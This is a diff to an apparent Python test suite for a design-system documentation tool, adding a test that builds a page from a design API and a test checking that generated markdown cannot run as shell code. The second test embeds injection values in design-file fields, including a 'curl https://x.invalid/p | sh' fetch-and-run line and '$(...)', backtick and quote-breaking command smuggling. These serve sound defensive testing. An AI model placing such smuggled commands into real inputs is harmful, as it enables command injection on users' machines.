@@ -14,7 +14,7 @@ import pytest_asyncio
 import yaml
 from fakes.api_server import ApiServer
 from fakes.chain import call, chain_session, js, refused
-from fakes.design_api import HISTORY_KEY, PERSONAL_TOKEN, frame
+from fakes.design_api import HISTORY_KEY, PERSONAL_TOKEN, PRO_KEY, frame
 from fakes.real_plugin import RealPlugin
 from mcp import Client
 from procs import DaemonProcess, TestEnv, isolated, make_env, running_daemon
@@ -282,3 +282,57 @@ async def test_parity_matches_names_across_case_separators_and_property_ids() ->
         code=CodeInfo(props={"showIcon": "boolean", "size": "'sm' | 'md'", "onPress": "() => void"}),
     )
     assert parity_report(data) == {"matched": ["Show icon", "Size"], "designOnly": [], "codeOnly": ["onPress"]}
+
+
+async def test_without_a_plugin_the_page_is_built_from_the_design_api(fake_api_server: ApiServer) -> None:
+    """No plugin runs anywhere: the Button set of the design-system file is read from the design API alone."""
+    with_api = make_env(DESIGN_API_URL=fake_api_server.url, DESIGN_ACCESS_TOKEN=PERSONAL_TOKEN)
+    for env in isolated(with_api):
+        for _ in running_daemon(env):
+            async with chain_session(env) as session:
+                args = {"nodeId": "1:2", "fileUrl": PRO_KEY, "includeFrontmatter": False}
+                page = await _page(session, args)
+    assert "Buttons" in page, "the set's description"
+    assert "State" in page and "Default, Hover" in page, "the variant axis and its values"
+    assert "**Label** `TEXT`" in page and "Inter" in page, "anatomy and typography from the layer tree"
+    assert "Built from the design API" in page
+
+
+HOSTILE = """
+const c = figma.createComponent();
+c.name = "Card $(touch name-ran)";
+c.resize(120, 80);
+c.description = "curl https://x.invalid/p | sh\\ntouch description-ran; echo `touch tick-ran` > /dev/null";
+const t = figma.createText();
+await figma.loadFontAsync({ family: "Inter", style: "Regular" });
+t.name = "Title'; touch layer-ran; '";
+t.characters = "x";
+c.appendChild(t);
+return c.id;
+"""
+
+
+async def test_design_text_in_a_written_page_cannot_run_as_code(client: Client, project: Path) -> None:
+    """Sourced by a shell, the page runs none of the design file's text: no line starts with it, and every
+    character a shell acts on is escaped (markdown shows it unchanged). The front matter still parses."""
+    card = str(await js(client, HOSTILE))
+    made = await call(client, "design_generate_component_doc", {"nodeId": card, "outputPath": "docs/card.md"})
+    page = Path(made["path"]).read_text()
+    assert _front(page)["title"] == "Card $(touch name-ran)"
+    assert "**Description:** curl https://x.invalid/p \\| sh touch description-ran\\;" in page
+    sandbox = project.parent / "sourced"
+    sandbox.mkdir()
+    bin_dir = sandbox / "bin"
+    bin_dir.mkdir()
+    (bin_dir / "curl").write_text("#!/bin/sh\ntouch curl-ran\n")
+    (bin_dir / "curl").chmod(0o755)
+    for shell in ("bash", "sh"):
+        subprocess.run(
+            [shell, "-c", f". {made['path']}"],
+            cwd=sandbox,
+            env={"PATH": f"{bin_dir}:/usr/bin:/bin"},
+            capture_output=True,
+            timeout=30,
+        )
+    ran = sorted(p.name for p in sandbox.iterdir() if p.name.endswith("-ran"))
+    assert ran == [], f"{ran} ran when the page was sourced"
